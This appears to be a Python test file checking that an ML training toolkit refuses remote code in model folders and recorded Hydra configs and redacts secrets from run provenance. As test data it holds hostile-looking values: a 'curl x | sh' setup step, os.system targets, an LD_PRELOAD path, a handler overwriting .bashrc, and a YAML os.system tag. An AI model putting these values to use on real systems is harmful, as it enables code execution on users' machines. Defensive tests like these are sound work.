"""Nothing that arrives as data runs as code, and no secret lands in a run directory.

- Model folders: torchtitan's Transformers backend passes `trust_remote_code=True`; qwen3exp's
  adapter (qwen3exp/titan/hf_model.py) refuses a config.json with `auto_map` and forces
  `trust_remote_code=False` (the rank-side guarantee; the launcher's own refusal is tested with
  model_files).
- Recorded run directories: `python -m qwen3exp.analysis.relaunch RUN` refuses a `.hydra/config.yaml` that
  asks Hydra or logging to instantiate anything.
- Provenance: git.diff holds tracked changes only; URL credentials and secret-looking variables,
  flags and overrides are redacted in provenance.json (and command.txt / plan.json's commands).
Every planted piece of code writes a marker file when it runs; each test asserts it is absent.
"""

from __future__ import annotations

import json
import subprocess
import uuid
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from conftest import compose, run_cli
from hf_fixtures import tiny_config

PLANTED = """\
import pathlib
pathlib.Path({marker!r}).write_text("planted code ran")
{tail}
"""


# ------------------------------------------------------------------ model folders: remote code
def _plant_model_folder(root: Path, marker: Path, model_type: str) -> Path:
    """A model folder whose config.json asks transformers to import `planted_config.py` from it."""
    # The dynamic module is named after the folder: a fresh name, so no earlier import is reused.
    folder = root / f"planted_{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    config = tiny_config(tied=True).to_dict()
    config["model_type"] = model_type
    config["auto_map"] = {"AutoConfig": "planted_config.PlantedConfig"}
    (folder / "config.json").write_text(json.dumps(config))
    tail = f"from transformers import Qwen3Config\nclass PlantedConfig(Qwen3Config):\n    model_type = {model_type!r}\n"
    (folder / "planted_config.py").write_text(PLANTED.format(marker=str(marker), tail=tail))
    return folder


def _job(folder: Path) -> SimpleNamespace:
    """The parts of torchtitan's Trainer.Config that `update_from_config` reads."""
    return SimpleNamespace(
        hf_model=str(folder),
        training=SimpleNamespace(seq_len=32),
        parallelism=None,
        debug=SimpleNamespace(deterministic=False),
        loss=SimpleNamespace(),
    )


@pytest.fixture
def modules_cache(tmp_path, monkeypatch) -> Path:
    """transformers copies remote code into HF_MODULES_CACHE before importing it: keep any copy
    (there is one only when a guarantee is broken) out of the user's ~/.cache."""
    import transformers.dynamic_module_utils as dmu

    cache = tmp_path / "hf_modules"
    monkeypatch.setattr(dmu, "HF_MODULES_CACHE", str(cache))
    return cache


# "qwen3": transformers has the class too (with trust_remote_code=True the folder's code still wins);
# "planted": only the folder has it.
@pytest.mark.parametrize("model_type", ["qwen3", "planted"])
def test_hf_adapter_never_runs_model_folder_code(tmp_path, modules_cache, model_type):
    from torchtitan.experiments.transformers_modeling_backend import TitanModelConfig

    from qwen3exp.titan.hf_model import HFQwen3Model, HFQwen3SdpaModel, RemoteCodeRefused

    marker = tmp_path / "marker"
    folder = _plant_model_folder(tmp_path, marker, model_type)
    for cls in (HFQwen3Model, HFQwen3SdpaModel):
        config = cls.Config(model_config=TitanModelConfig(attn_mask_type="block_causal"))
        with pytest.raises(RemoteCodeRefused, match="auto_map") as e:
            config.update_from_config(config=_job(folder))
        assert "never runs code" in str(e.value) and str(folder) in str(e.value)
        assert not marker.exists(), f"{cls.__name__}: the model folder's Python ran"


@pytest.mark.parametrize("model_type", ["qwen3", "planted"])
def test_hf_adapter_forces_trust_remote_code_false(tmp_path, modules_cache, monkeypatch, model_type):
    """The second layer alone (the refusal switched off): transformers itself never runs the code."""
    from torchtitan.experiments.transformers_modeling_backend import TitanModelConfig

    from qwen3exp.titan import hf_model

    monkeypatch.setattr(hf_model, "refuse_remote_code", lambda name: None)
    marker = tmp_path / "marker"
    folder = _plant_model_folder(tmp_path, marker, model_type)
    config = hf_model.HFQwen3Model.Config(model_config=TitanModelConfig(attn_mask_type="block_causal"))
    if model_type == "qwen3":  # transformers' own Qwen3Config is used, the folder's is ignored
        config.update_from_config(config=_job(folder))
        assert config.model_type == "qwen3" and config.num_hidden_layers == 2
    else:
        with pytest.raises(ValueError, match="custom code"):
            config.update_from_config(config=_job(folder))
    assert not marker.exists()
    from torchtitan.experiments.transformers_modeling_backend import model as backend
    from transformers import AutoConfig

    # Narrow: AutoConfig is never replaced, and the denylist is the backend's own again afterwards.
    assert backend.AutoConfig is AutoConfig
    assert backend._REMOTE_CONFIG_DENYLIST == frozenset({"deepseek_v2", "deepseek_v3"})


def test_upstream_backend_still_runs_model_folder_code(tmp_path, modules_cache):
    """The UPSTREAM BUG is still there (torchtitan 0.3.0 passes trust_remote_code=True). When this
    fails, upstream is fixed and qwen3exp.titan.hf_model.local_code_only can go."""
    from torchtitan.experiments.transformers_modeling_backend import TitanModelConfig
    from torchtitan.experiments.transformers_modeling_backend.model import HFTransformerModel

    marker = tmp_path / "marker"
    folder = _plant_model_folder(tmp_path, marker, "qwen3")
    config = HFTransformerModel.Config(model_config=TitanModelConfig())
    try:
        config.update_from_config(config=_job(folder))
    except Exception:  # only whether the planted code ran matters here
        pass
    assert marker.exists()


# ------------------------------------------------------------------ relaunch: recorded run dirs
def _recorded_run(root: Path, hydra: dict | None = None, **top) -> Path:
    """A run directory whose `.hydra/config.yaml` is a composed experiment (as Hydra records it),
    plus a planted `hydra:` section or top-level keys."""
    run = root / "recorded"
    (run / ".hydra").mkdir(parents=True)
    config = compose("platform=cpu", "training.steps=2", "training.warmup_steps=1")
    if hydra is not None:
        config["hydra"] = hydra
    config.update(top)
    (run / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    return run


CALLBACK = {"callbacks": {"evil": {"_target_": "planted_cb.Evil"}}}
LOG_FACTORY = {
    "hydra_logging": {
        "version": 1,
        "handlers": {"console": {"()": "planted_cb.handler"}},
        "root": {"handlers": ["console"]},
    }
}


@pytest.mark.parametrize(
    "hydra, key",
    [(CALLBACK, "hydra.callbacks.evil"), (LOG_FACTORY, "hydra.hydra_logging.handlers.console.()")],
    ids=["callback", "logging_factory"],
)
def test_relaunch_refuses_code_in_a_recorded_run(tmp_path, hydra, key):
    """The planted module lies in the run directory and the user relaunches from inside it (the
    directory is then first on sys.path): Hydra would import and run it. It must not."""
    marker = tmp_path / "marker"
    run = _recorded_run(tmp_path, hydra)
    (run / "planted_cb.py").write_text(PLANTED.format(marker=str(marker), tail="raise SystemExit('planted code ran')"))
    before = {p: p.read_bytes() for p in run.rglob("*") if p.is_file()}
    r = run_cli(".", f"hydra.run.dir={tmp_path / 'again'}", module="qwen3exp.analysis.relaunch", cwd=run, timeout=300)
    assert not marker.exists(), "the planted code ran: " + r.stderr[-2000:]
    assert r.returncode == 2, r.stdout[-2000:] + r.stderr[-2000:]
    assert "Traceback" not in r.stderr and key in r.stderr, r.stderr
    assert "a recorded run directory is data and qwen3exp never runs code from it" in r.stderr
    assert not (tmp_path / "again").exists()
    assert {p: p.read_bytes() for p in run.rglob("*") if p.is_file()} == before


def test_relaunch_of_a_genuine_recorded_config_still_works(tmp_path):
    """No hydra section (what Hydra records): relaunch composes and plans it (dry run)."""
    run = _recorded_run(tmp_path)
    r = run_cli(
        str(run),
        "dry_run=true",
        f"hydra.run.dir={tmp_path / 'again'}",
        module="qwen3exp.analysis.relaunch",
        timeout=300,
    )
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    assert "refused" not in (r.stdout + r.stderr).lower()


OK_HYDRA = {
    "launcher": {"_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher", "setup": None},
    "sweeper": {
        "_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper",
        "sampler": {"_target_": "optuna.samplers.TPESampler", "seed": 1},
    },
    "callbacks": {},
    "job_logging": {
        "version": 1,
        "formatters": {"simple": {"format": "%(message)s"}},
        "handlers": {
            "console": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"},
            "file": {"class": "logging.FileHandler", "filename": "${hydra.runtime.output_dir}/${hydra.job.name}.log"},
        },
        "root": {"handlers": ["console", "file"]},
    },
}


@pytest.mark.parametrize(
    "hydra, top, key",
    [
        ({"launcher": {"_target_": "planted.Launcher"}}, {}, "hydra.launcher._target_"),
        (
            {
                "launcher": {
                    "_target_": "hydra._internal.core_plugins.basic_launcher.BasicLauncher",
                    "setup": ["curl x | sh"],
                }
            },
            {},
            "hydra.launcher.setup",
        ),
        (
            {
                "sweeper": {
                    "_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper",
                    "sampler": {"_target_": "optuna.samplers.evil.Sampler"},
                }
            },
            {},
            "hydra.sweeper.sampler._target_",
        ),
        (
            {
                "sweeper": {
                    "_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper",
                    "params": {"x": {"_target_": "os.system", "_partial_": True}},
                }
            },
            {},
            "hydra.sweeper.params.x._target_",
        ),
        (
            {"callbacks": {"a": {"_target_": "hydra.experimental.callbacks.LogJobReturnCallback"}}},
            {},
            "hydra.callbacks.a",
        ),
        ({"job_logging": {"handlers": {"h": {"class": "planted.Handler"}}}}, {}, "hydra.job_logging.handlers.h.class"),
        (
            {"job_logging": {"formatters": {"f": {"()": "colorlog.ColoredFormatter"}}}},
            {},
            "hydra.job_logging.formatters.f.()",
        ),
        (
            {"job_logging": {"handlers": {"h": {"class": "logging.FileHandler", "filename": "/home/u/.bashrc"}}}},
            {},
            "hydra.job_logging.handlers.h.filename",
        ),
        (
            {"job_logging": {"handlers": {"h": {"class": "logging.StreamHandler", "stream": "ext://planted.stream"}}}},
            {},
            "hydra.job_logging.handlers.h.stream",
        ),
        ({"job": {"env_set": {"LD_PRELOAD": "/tmp/x.so"}}}, {}, "hydra.job.env_set"),
        ({"searchpath": ["file:///tmp/elsewhere"]}, {}, "hydra.searchpath"),
        ({"mode": "MULTIRUN"}, {}, "hydra.mode"),
        (None, {"defaults": [{"override hydra/job_logging": "colorlog"}]}, "defaults"),
        (None, {"extra": {"thing": {"_target_": "os.system"}}}, "extra.thing._target_"),
        (None, {"extra": [{"()": "os.system"}]}, "extra[0].()"),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_recorded_config_code_routes_are_named(tmp_path, hydra, top, key):
    from qwen3exp.analysis.relaunch import recorded_code_problems

    run = _recorded_run(tmp_path, hydra, **top)
    problems = recorded_code_problems(run / ".hydra" / "config.yaml", run)
    assert key in [p.key for p in problems], [p.render() for p in problems]


def test_recorded_config_with_hydras_own_plugins_is_data(tmp_path):
    from qwen3exp.analysis.relaunch import recorded_code_problems

    run = _recorded_run(tmp_path, OK_HYDRA)
    assert [p.render() for p in recorded_code_problems(run / ".hydra" / "config.yaml", run)] == []


def test_recorded_kernel_override_from_the_run_directory_is_refused(tmp_path, monkeypatch):
    from qwen3exp.analysis.relaunch import recorded_code_problems

    run = _recorded_run(tmp_path, kernels={"name": "default", "overrides": [{"target": "planted_override.fn"}]})
    (run / "planted_override.py").write_text("raise SystemExit('imported')\n")
    monkeypatch.syspath_prepend(str(run))  # as when relaunching from inside the run directory
    problems = recorded_code_problems(run / ".hydra" / "config.yaml", run.resolve())
    assert [p.key for p in problems] == ["kernels.overrides[0].target"]


def test_unreadable_recorded_config_is_a_problem_not_a_traceback(tmp_path):
    from qwen3exp.analysis.relaunch import recorded_code_problems

    bad = tmp_path / "config.yaml"
    bad.write_text("a: !!python/object/apply:os.system ['true']\n")
    assert [p.key for p in recorded_code_problems(bad, tmp_path)] == ["(recorded config)"]


# ------------------------------------------------------------------ provenance: git and secrets
def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        check=True,
        capture_output=True,
    )


@pytest.fixture
def source_tree(tmp_path, monkeypatch) -> Path:
    """A git checkout with a modified tracked file and an untracked `.env` holding a token."""
    from qwen3exp.run import provenance

    repo = tmp_path / "src"
    repo.mkdir()
    _git(repo, "init", "-q")
    (repo / "train.py").write_text("lr = 1\n")
    _git(repo, "add", "train.py")
    _git(repo, "commit", "-q", "-m", "first")
    (repo / "train.py").write_text("lr = 2\n")
    (repo / ".env").write_text("HF_TOKEN=hf_secret123\n")
    monkeypatch.setattr(provenance, "SOURCE_ROOT", repo)
    return repo


SECRETS = ("hf_secret123", "pw_in_url", "wandbkey123", "sessiontok", "ranktok", "argvtok", "setuptok", "flagtok")


def test_provenance_holds_tracked_changes_and_no_secrets(source_tree, tmp_path, monkeypatch):
    from qwen3exp.run import provenance

    monkeypatch.setenv("HF_ENDPOINT", "https://user:pw_in_url@hub.example")
    monkeypatch.setenv("WANDB_BASE_URL", "https://bob:pw_in_url@wandb.example:8080/x")
    monkeypatch.setenv("WANDB_API_KEY", "wandbkey123")
    monkeypatch.setenv("HF_MY_SESSION_TOKEN", "sessiontok")
    monkeypatch.setenv("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True")
    facts = SimpleNamespace(
        name="cpu", reason="test", device_type="cpu", env={"OMP_NUM_THREADS": "1", "MY_SESSION_TOKEN": "ranktok"}
    )
    origin = provenance.Origin(
        command=[
            "python",
            "-m",
            "qwen3exp",
            "+wandb_api_key=argvtok",
            "--hf-token",
            "flagtok",
            'hydra.launcher.setup=["export HF_TOKEN=setuptok"]',
            "training.lr=0.001",
        ],
        task_overrides=["+wandb_api_key=argvtok", "training.lr=0.001"],
        hydra_overrides=['hydra.launcher.setup=["export HF_TOKEN=setuptok"]'],
        override_dirname="+wandb_api_key=argvtok,training.lr=0.001",
    )
    run = tmp_path / "run"
    run.mkdir()
    prov = provenance.write(run, facts, "hash", origin)

    diff = (run / "git.diff").read_text()
    assert "+lr = 2" in diff and "-lr = 1" in diff
    assert ".env" not in diff and "hf_secret123" not in diff
    assert prov["git"]["dirty"] is True
    assert {"path": ".env", "size": len("HF_TOKEN=hf_secret123\n")} in prov["git"]["untracked"]
    text = (run / "provenance.json").read_text()
    for secret in SECRETS:
        assert secret not in text, secret
    env = prov["env"]
    assert env["HF_ENDPOINT"] == "https://***@hub.example"
    assert env["WANDB_BASE_URL"] == "https://***@wandb.example:8080/x"
    assert env["WANDB_API_KEY"] == env["HF_MY_SESSION_TOKEN"] == "***"
    assert env["PYTORCH_CUDA_ALLOC_CONF"] == "expandable_segments:True"
    assert prov["rank_env"] == {"OMP_NUM_THREADS": "1", "MY_SESSION_TOKEN": "***"}
    assert prov["command"][3:] == [
        "+wandb_api_key=***",
        "--hf-token",
        "***",
        'hydra.launcher.setup=["export HF_TOKEN=***"]',
        "training.lr=0.001",
    ]
    assert "training.lr=0.001" in prov["command_line"]


def test_untracked_files_alone_leave_no_diff(source_tree):
    from qwen3exp.run import provenance

    _git(source_tree, "checkout", "--", "train.py")
    state, diff = provenance.git_state(source_tree)
    assert diff is None and state["dirty"] is False
    assert [u["path"] for u in state["untracked"]] == [".env"]


def test_reading_a_repositorys_state_never_writes_to_it(source_tree):
    """`git status` refreshes a stale index (a file touched since it was staged): it rewrites
    `.git/index` under `.git/index.lock`. The provenance of a run reads the user's repository and
    must not write to it (a launch killed meanwhile would leave the lock, and their next `git
    commit` would fail)."""
    import os

    from qwen3exp.run import provenance

    index = source_tree / ".git" / "index"
    os.utime(source_tree / "train.py", (1, 1))  # stale stat data: a plain `git status` rewrites the index
    before = (index.read_bytes(), index.stat().st_mtime_ns)
    state, _ = provenance.git_state(source_tree)
    assert state["dirty"] is True
    assert (index.read_bytes(), index.stat().st_mtime_ns) == before
    # the same check fails for the command without --no-optional-locks: the test can tell
    subprocess.run(["git", "-C", str(source_tree), "status", "--porcelain"], check=True, capture_output=True)
    assert (index.read_bytes(), index.stat().st_mtime_ns) != before


@pytest.mark.parametrize(
    "name, secret",
    [
        ("HF_TOKEN", True),
        ("WANDB_API_KEY", True),
        ("MY_SESSION_TOKEN", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("DB_PASSWORD", True),
        ("MYSQL_PASSWD", True),
        ("GOOGLE_APPLICATION_CREDENTIALS", True),
        ("HTTP_COOKIE", True),
        ("PRIVATE_KEY_PATH", True),
        ("hf-token", True),
        ("+wandb_api_key", True),
        ("wandbApiKey", True),
        ("HFTOKEN", True),
        ("API_KEYS", True),
        ("Authorization", True),
        ("MONKEY", False),
        ("KEYBOARD_LAYOUT", False),
        ("TOKENIZERS_PARALLELISM", False),
        ("PYTORCH_CUDA_ALLOC_CONF", False),
        ("HF_ENDPOINT", False),
        ("CUDA_VISIBLE_DEVICES", False),
        ("NCCL_SOCKET_IFNAME", False),
        ("OMP_NUM_THREADS", False),
        ("training.lr", False),
        ("model.hf_assets_path", False),
    ],
)
def test_secret_name_rule(name, secret):
    from qwen3exp.run.redact import is_secret_name

    assert is_secret_name(name) is secret


@pytest.mark.parametrize(
    "arg, shown",
    [
        ("+wandb_api_key=abc", "+wandb_api_key=***"),
        ('hydra.launcher.setup=["export HF_TOKEN=abc"]', 'hydra.launcher.setup=["export HF_TOKEN=***"]'),
        ("hydra.job.env_set.HF_TOKEN=abc", "hydra.job.env_set.HF_TOKEN=***"),
        ("HF_ENDPOINT=https://user:p@ss@hub.example/a", "HF_ENDPOINT=https://***@hub.example/a"),
        ("a=HF_TOKEN=abc", "a=HF_TOKEN=***"),
        ("https://h.example/x?token=abc&y=1", "https://h.example/x?token=***&y=1"),
        ('{"api_key": "abc", "n": 1}', '{"api_key": ***, "n": 1}'),
        ("Authorization: Bearer abc", "Authorization: ***"),
        ("--rdzv-endpoint=localhost:29500", "--rdzv-endpoint=localhost:29500"),
        ("data.path=/data/secret_corpus.jsonl", "data.path=/data/secret_corpus.jsonl"),
        ("PATH=/usr/bin:/bin", "PATH=/usr/bin:/bin"),
    ],
)
def test_redact_argv(arg, shown):
    from qwen3exp.run.redact import redact_argv

    assert redact_argv([arg]) == [shown]
    assert redact_argv(["--token", "abc", "--tokenizer", "tok.json"]) == ["--token", "***", "--tokenizer", "tok.json"]
